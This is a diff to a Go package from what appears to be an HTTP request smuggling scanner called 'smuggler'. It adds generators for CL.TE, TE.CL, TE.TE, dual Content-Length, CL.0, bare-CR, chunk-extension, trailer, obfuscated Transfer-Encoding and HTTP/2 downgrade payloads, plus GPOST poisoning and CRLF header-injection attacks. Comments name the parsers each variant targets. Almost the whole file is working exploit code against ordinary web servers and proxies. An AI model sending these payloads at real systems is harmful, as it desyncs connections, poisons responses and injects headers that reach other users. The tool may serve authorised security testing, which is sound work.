@@ -1,26 +1,29 @@
 package payload
 
 import (
+	"bytes"
 	"fmt"
 	"sort"
 	"strconv"
 	"strings"
+
+	"smuggler/internal/models"
 )
 
 // ---------- Generator ----------
 
 type Generator struct {
-	host    string
-	port    int
-	method  string
-	path    string
-	headers map[string]string
+	target     *models.Target
+	method     string
+	path       string
+	hostHeader string
+	chunks     ChunkConfig
+	headers    map[string]string
 }
 
-func NewGenerator(host string, port int) *Generator {
+func NewGenerator(target *models.Target) *Generator {
 	return &Generator{
-		host:    host,
-		port:    port,
+		target:  target,
 		method:  "GET",
 		path:    "/",
 		headers: make(map[string]string),
@@ -37,16 +40,47 @@ func (g *Generator) SetPath(path string) *Generator {
 	return g
 }
 
+// SetHostHeader sends host as the Host header instead of the target's,
+// so a request can name one virtual host while connecting to another
+// address. Empty restores the target's value.
+func (g *Generator) SetHostHeader(host string) *Generator {
+	g.hostHeader = host
+	return g
+}
+
+// hostHeaderValue returns the Host header the generator sends.
+func (g *Generator) hostHeaderValue() string {
+	if g.hostHeader != "" {
+		return g.hostHeader
+	}
+	return g.target.HostHeaderValue()
+}
+
+// SetChunkConfig shapes the chunked body of the CL.TE and TE.CL payloads;
+// the zero ChunkConfig restores the terminator-only body.
+func (g *Generator) SetChunkConfig(cfg ChunkConfig) *Generator {
+	g.chunks = cfg
+	return g
+}
+
 func (g *Generator) AddHeader(key, value string) *Generator {
 	g.headers[key] = value
 	return g
 }
 
+// AddHeaders adds every header in headers, as AddHeader does.
+func (g *Generator) AddHeaders(headers map[string]string) *Generator {
+	for k, v := range headers {
+		g.headers[k] = v
+	}
+	return g
+}
+
 func (g *Generator) buildBaseRequest() string {
 	var buf strings.Builder
 
 	buf.WriteString(fmt.Sprintf("%s %s HTTP/1.1\r\n", g.method, g.path))
-	buf.WriteString(fmt.Sprintf("Host: %s:%d\r\n", g.host, g.port))
+	buf.WriteString(fmt.Sprintf("Host: %s\r\n", g.hostHeaderValue()))
 
 	// deterministic header order
 	keys := make([]string, 0, len(g.headers))
@@ -62,6 +96,12 @@ func (g *Generator) buildBaseRequest() string {
 	return buf.String()
 }
 
+// BaseRequestBytes returns the request line and headers, without the
+// terminating blank line, for use with the byte-oriented builders.
+func (g *Generator) BaseRequestBytes() []byte {
+	return []byte(g.buildBaseRequest())
+}
+
 func (g *Generator) GenerateBaseline() string {
 	var buf strings.Builder
 	buf.WriteString(g.buildBaseRequest())
@@ -70,19 +110,29 @@ func (g *Generator) GenerateBaseline() string {
 	return buf.String()
 }
 
+// GenerateBaselineKeepAlive returns a benign request that asks the server to
+// keep the connection open, for pipelining probes.
+func (g *Generator) GenerateBaselineKeepAlive() string {
+	var buf strings.Builder
+	buf.WriteString(g.buildBaseRequest())
+	buf.WriteString("Connection: keep-alive\r\n")
+	buf.WriteString("\r\n")
+	return buf.String()
+}
+
 // Convenience wrappers for Generator to create specific payloads.
 func (g *Generator) GenerateCLTEPayload(smoggledBody string) (string, error) {
 	if smoggledBody == "" {
 		return "", fmt.Errorf("smuggled body cannot be empty")
 	}
-	return GenerateCLTE(g.buildBaseRequest(), smoggledBody), nil
+	return GenerateCLTEChunks(g.buildBaseRequest(), smoggledBody, g.chunks), nil
 }
 
 func (g *Generator) GenerateTECLPayload(smoggledBody string) (string, error) {
 	if smoggledBody == "" {
 		return "", fmt.Errorf("smuggled body cannot be empty")
 	}
-	return GenerateTECL(g.buildBaseRequest(), smoggledBody), nil
+	return GenerateTECLChunks(g.buildBaseRequest(), smoggledBody, g.chunks), nil
 }
 
 func (g *Generator) GenerateObfuscatedTEPayload(smoggledBody string, obfuscation string) (string, error) {
@@ -95,20 +145,198 @@ func (g *Generator) GenerateObfuscatedTEPayload(smoggledBody string, obfuscation
 	return GenerateObfuscatedTE(g.buildBaseRequest(), smoggledBody, obfuscation), nil
 }
 
+func (g *Generator) GenerateWhitespaceObfuscatedTEPayload(smoggledBody string, obfuscation WhitespaceObfuscation) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	return string(GenerateWhitespaceObfuscatedTEBytes(g.BaseRequestBytes(), []byte(smoggledBody), obfuscation.Value())), nil
+}
+
+func (g *Generator) GenerateTETEPayload(smoggledBody string) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	return GenerateTETE(g.buildBaseRequest(), smoggledBody), nil
+}
+
+func (g *Generator) GenerateDualCLPayload(smoggledBody string, firstLen, secondLen int) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	if firstLen < 0 || secondLen < 0 {
+		return "", fmt.Errorf("content lengths cannot be negative")
+	}
+	return GenerateDualCL(g.buildBaseRequest(), smoggledBody, firstLen, secondLen), nil
+}
+
+func (g *Generator) GenerateBareCRPayload(smoggledBody string) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	return GenerateCLTEBareCR(g.buildBaseRequest(), smoggledBody), nil
+}
+
+func (g *Generator) GenerateChunkExtensionPayload(smoggledBody string, extension string) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	return GenerateTEChunkExtension(g.buildBaseRequest(), smoggledBody, extension), nil
+}
+
+func (g *Generator) GenerateTrailerPayload(smoggledBody string, trailer string) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	if !strings.Contains(trailer, ":") {
+		return "", fmt.Errorf("trailer must be \"Name: value\"")
+	}
+	return GenerateTETrailer(g.buildBaseRequest(), smoggledBody, trailer), nil
+}
+
+func (g *Generator) GenerateCL0Payload(smoggledBody string) (string, error) {
+	if smoggledBody == "" {
+		return "", fmt.Errorf("smuggled body cannot be empty")
+	}
+	return GenerateCL0(g.buildBaseRequest(), smoggledBody), nil
+}
+
 // ---------- Helpers ----------
 
+// buildChunkedPrefix returns the terminating chunk. The payloads declare a
+// Content-Length covering this prefix plus the smuggled request, so a
+// front-end framing by Content-Length forwards everything, while a back-end
+// framing by chunked encoding ends the body here and reads the smuggled
+// request as the next one. A prefix that is not valid chunked encoding
+// would be rejected instead of desyncing.
 func buildChunkedPrefix() string {
-	return "5\r\n0\r\n\r\n0\r\n\r\n"
+	return "0\r\n\r\n"
+}
+
+// Chunk is one data chunk of a chunked body. Size is the size declared on
+// its chunk-size line; zero declares len(Data). Declaring more than Data
+// holds makes a chunked parser read on into the bytes that follow, and
+// declaring less leaves the rest of Data to be parsed as the next
+// chunk-size line. A non-empty Extension is sent after the size as
+// ";Extension".
+type Chunk struct {
+	Data      string
+	Size      int
+	Extension string
+}
+
+// ChunkConfig shapes the chunked body of the CL.TE and TE.CL payloads.
+// The zero value sends only the terminating chunk, "0\r\n\r\n".
+type ChunkConfig struct {
+	// Chunks are sent, in order, before the terminating chunk.
+	Chunks []Chunk
+
+	// SizeWidth left-pads every chunk size, the terminator's included,
+	// with zeros to this many hex digits ("0005"). Parsers that cap the
+	// length of the size field disagree with ones that do not.
+	SizeWidth int
+
+	// Trailers are "Name: value" fields sent after the terminating chunk.
+	Trailers []string
+}
+
+// Body renders the chunks followed by the terminating chunk.
+func (c ChunkConfig) Body() string {
+	var b strings.Builder
+	for _, chunk := range c.Chunks {
+		size := chunk.Size
+		if size == 0 {
+			size = len(chunk.Data)
+		}
+		fmt.Fprintf(&b, "%0*x", c.SizeWidth, size)
+		if chunk.Extension != "" {
+			b.WriteString(";" + chunk.Extension)
+		}
+		fmt.Fprintf(&b, "\r\n%s\r\n", chunk.Data)
+	}
+	fmt.Fprintf(&b, "%0*x\r\n", c.SizeWidth, 0)
+	for _, trailer := range c.Trailers {
+		b.WriteString(trailer + "\r\n")
+	}
+	b.WriteString("\r\n")
+	return b.String()
+}
+
+// ChunkVariant is a named chunk layout for the chunk sweep.
+type ChunkVariant struct {
+	Name   string
+	Config ChunkConfig
+}
+
+// ChunkVariants are the chunk layouts the scanner's chunk sweep sends for
+// CL.TE and TE.CL in addition to the terminator-only default.
+var ChunkVariants = []ChunkVariant{
+	{Name: "data-chunk", Config: ChunkConfig{Chunks: []Chunk{{Data: "x=1"}}}},
+	{Name: "multi-chunk", Config: ChunkConfig{Chunks: []Chunk{{Data: "x"}, {Data: "=1"}}}},
+	{Name: "zero-padded", Config: ChunkConfig{Chunks: []Chunk{{Data: "x=1"}}, SizeWidth: 8}},
+	{Name: "oversized", Config: ChunkConfig{Chunks: []Chunk{{Data: "x=1", Size: 0x10}}}},
+	{Name: "undersized", Config: ChunkConfig{Chunks: []Chunk{{Data: "x=1", Size: 1}}}},
+}
+
+// ChunkExtensions are the chunk extensions the chunk-extension test sends.
+// RFC 9112 lets a parser ignore extensions, so implementations disagree on
+// what one may contain: lenient parsers end the size line at a bare LF or
+// CR inside it, and others cap its length.
+var ChunkExtensions = []ChunkVariant{
+	{Name: "valid", Config: ChunkConfig{Chunks: []Chunk{{Data: "x", Extension: "ext=1"}}}},
+	{Name: "bare-lf", Config: ChunkConfig{Chunks: []Chunk{{Data: "x", Extension: "a\nx"}}}},
+	{Name: "bare-cr", Config: ChunkConfig{Chunks: []Chunk{{Data: "x", Extension: "a\rx"}}}},
+	{Name: "oversized", Config: ChunkConfig{Chunks: []Chunk{{Data: "x", Extension: "x=" + strings.Repeat("a", 8192)}}}},
+}
+
+// ChunkTrailers are the trailer sections the chunk-extension test sends.
+// A back-end that does not expect trailers reads them as the start of the
+// next request, and one that merges them into the headers may let a
+// Content-Length trailer reframe the message.
+var ChunkTrailers = []ChunkVariant{
+	{Name: "trailer", Config: ChunkConfig{Trailers: []string{"X-Smuggle-Trailer: 1"}}},
+	{Name: "trailer-cl", Config: ChunkConfig{Trailers: []string{"Content-Length: 0"}}},
 }
 
 // ---------- CL.TE ----------
 
 func GenerateCLTE(baseRequest string, smoggledBody string) string {
+	return string(GenerateCLTEBytes([]byte(baseRequest), []byte(smoggledBody)))
+}
+
+// GenerateCLTEBytes is GenerateCLTE over bytes, for smuggled bodies
+// containing NULs or other bytes built outside string literals.
+func GenerateCLTEBytes(baseRequest, smoggledBody []byte) []byte {
+	return GenerateCLTEChunksBytes(baseRequest, smoggledBody, ChunkConfig{})
+}
+
+// GenerateCLTEChunks is GenerateCLTE with the chunked prefix laid out by
+// cfg instead of a lone terminating chunk.
+func GenerateCLTEChunks(baseRequest string, smoggledBody string, cfg ChunkConfig) string {
+	return string(GenerateCLTEChunksBytes([]byte(baseRequest), []byte(smoggledBody), cfg))
+}
+
+// GenerateCLTEChunksBytes is GenerateCLTEChunks over bytes.
+func GenerateCLTEChunksBytes(baseRequest, smoggledBody []byte, cfg ChunkConfig) []byte {
+	var buf bytes.Buffer
+
+	body := append([]byte(cfg.Body()), smoggledBody...)
+
+	buf.Write(baseRequest)
+	buf.WriteString("Transfer-Encoding: chunked\r\n")
+	fmt.Fprintf(&buf, "Content-Length: %d\r\n", len(body))
+	buf.WriteString("\r\n")
+	buf.Write(body)
+
+	return buf.Bytes()
+}
+
+func GenerateCLTEAmbiguous(baseRequest string, smoggledBody string) string {
 	var buf strings.Builder
 
 	body := buildChunkedPrefix() + smoggledBody
 
 	buf.WriteString(baseRequest)
+	buf.WriteString("Transfer-Encoding: identity\r\n")
 	buf.WriteString("Transfer-Encoding: chunked\r\n")
 	buf.WriteString(fmt.Sprintf("Content-Length: %d\r\n", len(body)))
 	buf.WriteString("\r\n")
@@ -117,13 +345,17 @@ func GenerateCLTE(baseRequest string, smoggledBody string) string {
 	return buf.String()
 }
 
-func GenerateCLTEAmbiguous(baseRequest string, smoggledBody string) string {
+// GenerateCLTEBareCR ends the chunked body with a lone "\r" instead of
+// "\r\n". Lenient parsers (older http-parser/llhttp builds, several
+// embedded and framework servers) accept a bare CR as a line terminator
+// and treat the smuggled bytes as the next request, while strict
+// front-ends such as nginx or HAProxy keep reading them as body data.
+func GenerateCLTEBareCR(baseRequest string, smoggledBody string) string {
 	var buf strings.Builder
 
-	body := buildChunkedPrefix() + smoggledBody
+	body := "0\r\n\r" + smoggledBody
 
 	buf.WriteString(baseRequest)
-	buf.WriteString("Transfer-Encoding: identity\r\n")
 	buf.WriteString("Transfer-Encoding: chunked\r\n")
 	buf.WriteString(fmt.Sprintf("Content-Length: %d\r\n", len(body)))
 	buf.WriteString("\r\n")
@@ -132,21 +364,78 @@ func GenerateCLTEAmbiguous(baseRequest string, smoggledBody string) string {
 	return buf.String()
 }
 
+// LineTerminatorAnomalies counts line terminators that are not CRLF: lone
+// CRs and lone LFs. It lints generated payloads so variants contain exactly
+// the anomalies they are meant to and no accidental ones.
+func LineTerminatorAnomalies(raw string) (bareCR, bareLF int) {
+	for i := 0; i < len(raw); i++ {
+		switch raw[i] {
+		case '\r':
+			if i+1 >= len(raw) || raw[i+1] != '\n' {
+				bareCR++
+			}
+		case '\n':
+			if i == 0 || raw[i-1] != '\r' {
+				bareLF++
+			}
+		}
+	}
+	return bareCR, bareLF
+}
+
+// ---------- Chunk extensions and trailers ----------
+
+// GenerateTEChunkExtension frames the body like CL.TE, with a one-byte
+// data chunk whose size line carries extension ("1;<extension>\r\n").
+// Front-ends that skip the extension forward it intact; a back-end that
+// ends the size line early (at a bare LF or CR) or rejects a long
+// extension reads the chunk boundaries differently. Node.js (llhttp),
+// Go's net/http and Puma have all had chunk-extension parsing fixes.
+func GenerateTEChunkExtension(baseRequest string, smoggledBody string, extension string) string {
+	return GenerateCLTEChunks(baseRequest, smoggledBody, ChunkConfig{
+		Chunks: []Chunk{{Data: "x", Extension: extension}},
+	})
+}
+
+// GenerateTETrailer frames the body like CL.TE and sends trailer, a
+// "Name: value" field, after the terminating chunk. Back-ends that do not
+// parse trailers (Puma before 6.3.1 among them) treat the field as the
+// start of the next request, desyncing the connection.
+func GenerateTETrailer(baseRequest string, smoggledBody string, trailer string) string {
+	return GenerateCLTEChunks(baseRequest, smoggledBody, ChunkConfig{Trailers: []string{trailer}})
+}
+
 // ---------- TE.CL ----------
 
 func GenerateTECL(baseRequest string, smoggledBody string) string {
-	var buf strings.Builder
+	return string(GenerateTECLBytes([]byte(baseRequest), []byte(smoggledBody)))
+}
 
-	chunkBody := "0\r\n\r\n"
+// GenerateTECLBytes is GenerateTECL over bytes.
+func GenerateTECLBytes(baseRequest, smoggledBody []byte) []byte {
+	return GenerateTECLChunksBytes(baseRequest, smoggledBody, ChunkConfig{})
+}
 
-	buf.WriteString(baseRequest)
-	buf.WriteString(fmt.Sprintf("Content-Length: %d\r\n", len(chunkBody)))
+// GenerateTECLChunks is GenerateTECL with the chunked body laid out by
+// cfg; Content-Length still covers exactly the chunked body.
+func GenerateTECLChunks(baseRequest string, smoggledBody string, cfg ChunkConfig) string {
+	return string(GenerateTECLChunksBytes([]byte(baseRequest), []byte(smoggledBody), cfg))
+}
+
+// GenerateTECLChunksBytes is GenerateTECLChunks over bytes.
+func GenerateTECLChunksBytes(baseRequest, smoggledBody []byte, cfg ChunkConfig) []byte {
+	var buf bytes.Buffer
+
+	chunkBody := cfg.Body()
+
+	buf.Write(baseRequest)
+	fmt.Fprintf(&buf, "Content-Length: %d\r\n", len(chunkBody))
 	buf.WriteString("Transfer-Encoding: chunked\r\n")
 	buf.WriteString("\r\n")
 	buf.WriteString(chunkBody)
-	buf.WriteString(smoggledBody)
+	buf.Write(smoggledBody)
 
-	return buf.String()
+	return buf.Bytes()
 }
 
 func GenerateTECLAmbiguous(baseRequest string, smoggledBody string) string {
@@ -180,16 +469,21 @@ func GenerateTECLDualChunked(baseRequest string, smoggledBody string) string {
 	return buf.String()
 }
 
-// ---------- Obfuscated TE ----------
+// ---------- TE.TE ----------
 
-func GenerateObfuscatedTE(baseRequest string, smoggledBody string, obfuscation string) string {
+// GenerateTETE sends a valid chunked Transfer-Encoding followed by a
+// duplicate with a space before the colon. Both servers support chunked
+// encoding, but one that rejects or skips the malformed duplicate may drop
+// chunked framing altogether and fall back to Content-Length, leaving the
+// smuggled bytes for the next request.
+func GenerateTETE(baseRequest string, smoggledBody string) string {
 	var buf strings.Builder
 
 	body := buildChunkedPrefix() + smoggledBody
 
 	buf.WriteString(baseRequest)
 	buf.WriteString("Transfer-Encoding: chunked\r\n")
-	buf.WriteString(fmt.Sprintf("Transfer-Encoding: %s\r\n", obfuscation))
+	buf.WriteString("Transfer-Encoding : chunked\r\n")
 	buf.WriteString(fmt.Sprintf("Content-Length: %d\r\n", len(body)))
 	buf.WriteString("\r\n")
 	buf.WriteString(body)
@@ -197,6 +491,72 @@ func GenerateObfuscatedTE(baseRequest string, smoggledBody string, obfuscation s
 	return buf.String()
 }
 
+// ---------- CL.CL ----------
+
+// GenerateDualCL sends two conflicting Content-Length headers, firstLen then
+// secondLen. A front-end that honors one and a back-end that honors the
+// other disagree on where the body ends, so whatever one of them leaves
+// unread is parsed as the start of the next request.
+func GenerateDualCL(baseRequest string, smoggledBody string, firstLen, secondLen int) string {
+	var buf strings.Builder
+
+	buf.WriteString(baseRequest)
+	buf.WriteString(fmt.Sprintf("Content-Length: %d\r\n", firstLen))
+	buf.WriteString(fmt.Sprintf("Content-Length: %d\r\n", secondLen))
+	buf.WriteString("\r\n")
+	buf.WriteString(smoggledBody)
+
+	return buf.String()
+}
+
+// ---------- CL.0 ----------
+
+// GenerateCL0 builds a request whose body is a smuggled request prefix. A
+// back-end that treats the body as absent (Content-Length: 0 semantics)
+// parses the prefix as the start of the next request on the connection.
+func GenerateCL0(baseRequest string, smoggledBody string) string {
+	return string(GenerateCL0Bytes([]byte(baseRequest), []byte(smoggledBody)))
+}
+
+// GenerateCL0Bytes is GenerateCL0 over bytes.
+func GenerateCL0Bytes(baseRequest, smoggledBody []byte) []byte {
+	var buf bytes.Buffer
+
+	buf.Write(baseRequest)
+	buf.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
+	fmt.Fprintf(&buf, "Content-Length: %d\r\n", len(smoggledBody))
+	buf.WriteString("\r\n")
+	buf.Write(smoggledBody)
+
+	return buf.Bytes()
+}
+
+// ---------- Obfuscated TE ----------
+
+func GenerateObfuscatedTE(baseRequest string, smoggledBody string, obfuscation string) string {
+	return string(GenerateObfuscatedTEBytes([]byte(baseRequest), []byte(smoggledBody), []byte(obfuscation)))
+}
+
+// GenerateObfuscatedTEBytes is GenerateObfuscatedTE over bytes, so the
+// obfuscated value can carry exact sequences such as "\x0bchunked" or
+// "chunked\x00".
+func GenerateObfuscatedTEBytes(baseRequest, smoggledBody, obfuscation []byte) []byte {
+	var buf bytes.Buffer
+
+	body := append([]byte(buildChunkedPrefix()), smoggledBody...)
+
+	buf.Write(baseRequest)
+	buf.WriteString("Transfer-Encoding: chunked\r\n")
+	buf.WriteString("Transfer-Encoding: ")
+	buf.Write(obfuscation)
+	buf.WriteString("\r\n")
+	fmt.Fprintf(&buf, "Content-Length: %d\r\n", len(body))
+	buf.WriteString("\r\n")
+	buf.Write(body)
+
+	return buf.Bytes()
+}
+
 func GenerateObfuscatedTEVariant(baseRequest string, smoggledBody string, teHeaders []string) string {
 	var buf strings.Builder
 
@@ -213,6 +573,62 @@ func GenerateObfuscatedTEVariant(baseRequest string, smoggledBody string, teHead
 	return buf.String()
 }
 
+// GenerateWhitespaceObfuscatedTE builds a CL.TE-shaped request whose only
+// Transfer-Encoding header has ws between the colon and "chunked", e.g.
+// "Transfer-Encoding:\x0bchunked". A front-end that does not treat ws as
+// whitespace ignores the header and forwards by Content-Length, while a
+// back-end that strips it honors chunked and desyncs.
+func GenerateWhitespaceObfuscatedTE(baseRequest string, smoggledBody string, ws byte) string {
+	value := append([]byte{ws}, "chunked"...)
+	return string(GenerateWhitespaceObfuscatedTEBytes([]byte(baseRequest), []byte(smoggledBody), value))
+}
+
+// GenerateWhitespaceObfuscatedTEBytes is GenerateWhitespaceObfuscatedTE with
+// the header value given in full, written byte for byte after
+// "Transfer-Encoding:".
+func GenerateWhitespaceObfuscatedTEBytes(baseRequest, smoggledBody, value []byte) []byte {
+	var buf bytes.Buffer
+
+	body := append([]byte(buildChunkedPrefix()), smoggledBody...)
+
+	buf.Write(baseRequest)
+	buf.WriteString("Transfer-Encoding:")
+	buf.Write(value)
+	buf.WriteString("\r\n")
+	fmt.Fprintf(&buf, "Content-Length: %d\r\n", len(body))
+	buf.WriteString("\r\n")
+	buf.Write(body)
+
+	return buf.Bytes()
+}
+
+// WhitespaceObfuscation places a byte that parsers disagree on as
+// whitespace either before "chunked" or after it.
+type WhitespaceObfuscation struct {
+	Name     string
+	WS       byte
+	Trailing bool
+}
+
+// Value returns the Transfer-Encoding header value for the obfuscation.
+func (w WhitespaceObfuscation) Value() []byte {
+	if w.Trailing {
+		return append([]byte(" chunked"), w.WS)
+	}
+	return append([]byte{w.WS}, "chunked"...)
+}
+
+// WhitespaceObfuscations are the byte-level Transfer-Encoding variants the
+// Obfuscated-TE test sends in addition to ObfuscationPatterns.
+var WhitespaceObfuscations = []WhitespaceObfuscation{
+	{Name: "vtab-prefix", WS: '\x0b'},
+	{Name: "formfeed-prefix", WS: '\x0c'},
+	{Name: "cr-prefix", WS: '\r'},
+	{Name: "vtab-suffix", WS: '\x0b', Trailing: true},
+	{Name: "formfeed-suffix", WS: '\x0c', Trailing: true},
+	{Name: "cr-suffix", WS: '\r', Trailing: true},
+}
+
 var ObfuscationPatterns = []string{
 	"cow",
 	"x-chunked",
@@ -226,9 +642,9 @@ var ObfuscationPatterns = []string{
 
 // ---------- Advanced attacks ----------
 
-func CL_TE_GPOST_ATTACK(host string, port int) string {
+func CL_TE_GPOST_ATTACK(target *models.Target) string {
 	return "POST / HTTP/1.1\r\n" +
-		"Host: " + host + ":" + strconv.Itoa(port) + "\r\n" +
+		"Host: " + target.HostHeaderValue() + "\r\n" +
 		"Connection: keep-alive\r\n" +
 		"Content-Type: application/x-www-form-urlencoded\r\n" +
 		"Content-Length: 6\r\n" +
@@ -237,16 +653,35 @@ func CL_TE_GPOST_ATTACK(host string, port int) string {
 		"0\r\n\r\nG"
 }
 
-func ProbeRequestAfterPoison(host string, port int) string {
+// CL_TE_HEADER_INJECTION smuggles a request whose path carries an encoded
+// CRLF followed by header: canary. A back-end that reflects the path into
+// a response header (e.g. a redirect) splits it, injecting the header into
+// whichever response the smuggled prefix ends up in.
+func CL_TE_HEADER_INJECTION(target *models.Target, header, canary string) string {
+	smuggled := "GET /?r=%0d%0a" + header + ":%20" + canary + " HTTP/1.1\r\n" +
+		"X-Ignore: X"
+	body := "0\r\n\r\n" + smuggled
+
+	return "POST / HTTP/1.1\r\n" +
+		"Host: " + target.HostHeaderValue() + "\r\n" +
+		"Connection: keep-alive\r\n" +
+		"Content-Type: application/x-www-form-urlencoded\r\n" +
+		"Content-Length: " + strconv.Itoa(len(body)) + "\r\n" +
+		"Transfer-Encoding: chunked\r\n" +
+		"\r\n" +
+		body
+}
+
+func ProbeRequestAfterPoison(target *models.Target) string {
 	return "GET / HTTP/1.1\r\n" +
-		"Host: " + host + ":" + strconv.Itoa(port) + "\r\n" +
+		"Host: " + target.HostHeaderValue() + "\r\n" +
 		"Connection: close\r\n\r\n"
 }
 
-func HTTP1_CL_TE_Poison(host string, port int, poisonChar string) string {
+func HTTP1_CL_TE_Poison(target *models.Target, poisonChar string) string {
 	clValue := strconv.Itoa(len(poisonChar) + 5)
 	return "POST / HTTP/1.1\r\n" +
-		"Host: " + host + ":" + strconv.Itoa(port) + "\r\n" +
+		"Host: " + target.HostHeaderValue() + "\r\n" +
 		"Connection: keep-alive\r\n" +
 		"Content-Length: " + clValue + "\r\n" +
 		"Transfer-Encoding: chunked\r\n" +
@@ -254,3 +689,100 @@ func HTTP1_CL_TE_Poison(host string, port int, poisonChar string) string {
 		"0\r\n\r\n" +
 		poisonChar
 }
+
+// WithHeaders inserts headers, sorted by name, into the header block of a
+// raw request built outside a Generator: after its Host header, or after
+// the request line when there is none. The body is untouched, so any
+// Content-Length stays correct.
+func WithHeaders(raw string, headers map[string]string) string {
+	if len(headers) == 0 {
+		return raw
+	}
+
+	at := strings.Index(raw, "\r\n")
+	if at < 0 {
+		return raw
+	}
+	at += 2
+	if rest := raw[at:]; len(rest) >= 5 && strings.EqualFold(rest[:5], "Host:") {
+		if end := strings.Index(rest, "\r\n"); end >= 0 {
+			at += end + 2
+		}
+	}
+
+	keys := make([]string, 0, len(headers))
+	for k := range headers {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+
+	var buf strings.Builder
+	buf.WriteString(raw[:at])
+	for _, k := range keys {
+		buf.WriteString(fmt.Sprintf("%s: %s\r\n", k, headers[k]))
+	}
+	buf.WriteString(raw[at:])
+	return buf.String()
+}
+
+// ---------- HTTP/2 downgrade ----------
+
+// WithH2Headers appends headers to req, sorted by name and lowercased as
+// HTTP/2 requires, and returns req.
+func WithH2Headers(req *models.H2Request, headers map[string]string) *models.H2Request {
+	keys := make([]string, 0, len(headers))
+	for k := range headers {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+
+	for _, k := range keys {
+		req.Headers = append(req.Headers, [2]string{strings.ToLower(k), headers[k]})
+	}
+	return req
+}
+
+func newH2Request(target *models.Target, method, path string) *models.H2Request {
+	scheme := "http"
+	if target.TLS {
+		scheme = "https"
+	}
+	return &models.H2Request{
+		Method:    method,
+		Scheme:    scheme,
+		Authority: target.HostHeaderValue(),
+		Path:      path,
+	}
+}
+
+// H2Baseline returns a benign HTTP/2 GET for path.
+func H2Baseline(target *models.Target, path string) *models.H2Request {
+	return newH2Request(target, "GET", path)
+}
+
+// GenerateH2CL declares content-length: 0 but sends smoggledBody as DATA.
+// A front-end that downgrades to HTTP/1.1 and trusts the header forwards
+// the body as the start of the next request on its back-end connection.
+func GenerateH2CL(target *models.Target, smoggledBody string) *models.H2Request {
+	req := newH2Request(target, "POST", "/")
+	req.Headers = [][2]string{
+		{"content-type", "application/x-www-form-urlencoded"},
+		{"content-length", "0"},
+	}
+	req.Body = smoggledBody
+	return req
+}
+
+// GenerateH2TE sends a transfer-encoding header, which HTTP/2 forbids, with
+// a terminating chunk ahead of smoggledBody. A front-end that passes the
+// header through on downgrade lets a chunked back-end end the request early
+// and read the rest as the next request.
+func GenerateH2TE(target *models.Target, smoggledBody string) *models.H2Request {
+	req := newH2Request(target, "POST", "/")
+	req.Headers = [][2]string{
+		{"content-type", "application/x-www-form-urlencoded"},
+		{"transfer-encoding", "chunked"},
+	}
+	req.Body = "0\r\n\r\n" + smoggledBody
+	return req
+}